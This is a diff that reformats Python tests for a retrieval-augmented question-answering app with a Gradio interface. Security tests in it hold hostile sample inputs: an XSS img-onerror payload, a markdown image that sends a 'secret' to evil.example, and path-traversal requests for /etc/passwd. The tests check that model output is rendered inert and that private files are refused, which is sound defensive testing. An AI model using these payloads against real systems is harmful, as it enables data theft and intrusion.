@@ -40,14 +40,19 @@ def test_respond_refuses_out_of_corpus_and_reports_errors_in_one_line(scripted_e
 
 
 def test_respond_uses_the_history_for_follow_ups(scripted_engine):
-    history = [{"role": "user", "content": "What does the Ottawa Convention ban?"}, {"role": "assistant", "content": "Anti-personnel mines [1]."}]
+    history = [
+        {"role": "user", "content": "What does the Ottawa Convention ban?"},
+        {"role": "assistant", "content": "Anti-personnel mines [1]."},
+    ]
     list(ui_app.respond("How many countries have joined it?", history, 4, "local", engine=scripted_engine))
     condense_prompt = scripted_engine.llm("local").calls[0][-1].content
     assert "User: What does the Ottawa Convention ban?" in condense_prompt
 
 
 def test_model_output_is_rendered_inert():
-    text = inert('See <img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) [click](https://evil.example) https://evil.example/x')
+    text = inert(
+        "See <img src=x onerror=alert(1)> ![leak](https://evil.example/?q=secret) [click](https://evil.example) https://evil.example/x"
+    )
     assert "<img" not in text and "evil.example/?q" not in text and "](" not in text
     assert "click" in text and "&lt;img" in text and "`https://evil.example/x`" in text
 
@@ -106,7 +111,12 @@ def test_served_app_closes_queue_skipping_routes_and_private_files(served):
 
     r = httpx.post(served + "gradio_api/api/respond", json={"data": [Q, 4, "local"]}, timeout=10)
     assert r.status_code in (401, 403, 404, 405), r.status_code
-    for path in ["gradio_api/file=../index/manifest.json", "gradio_api/file=/etc/passwd", "gradio_api/file=index/manifest.json", "file=/etc/passwd"]:
+    for path in [
+        "gradio_api/file=../index/manifest.json",
+        "gradio_api/file=/etc/passwd",
+        "gradio_api/file=index/manifest.json",
+        "file=/etc/passwd",
+    ]:
         r = httpx.get(served + path, timeout=10)
         assert r.status_code in (403, 404), (path, r.status_code)
         assert "root:" not in r.text and "collection" not in r.text
@@ -116,7 +126,9 @@ def test_cli_serve_refuses_without_an_index(tmp_path):
     import subprocess
     import sys
 
-    run = subprocess.run([sys.executable, "-m", "rag", "serve", "--index", str(tmp_path / "none")], capture_output=True, text=True, timeout=120)
+    run = subprocess.run(
+        [sys.executable, "-m", "rag", "serve", "--index", str(tmp_path / "none")], capture_output=True, text=True, timeout=120
+    )
     assert run.returncode == 3 and "run `rag ingest` first" in run.stderr
 
 
@@ -127,7 +139,9 @@ def test_corpus_admin_actions_add_and_remove_documents(tmp_path, embedder, monke
 
     monkeypatch.chdir(tmp_path)
     shutil.copytree(CORPUS, tmp_path / "corpus")
-    engine = rag.Engine(rag.Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", llm_backend="extractive"), embedder=embedder)
+    engine = rag.Engine(
+        rag.Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", llm_backend="extractive"), embedder=embedder
+    )
     engine.ingest()
     report = engine.add_file("notes.md", b"# Demining notes\n\nClearing one hectare of minefield took the team eleven days.\n")
     assert report.added == ["corpus/notes.md"] and (tmp_path / "corpus" / "notes.md").is_file()
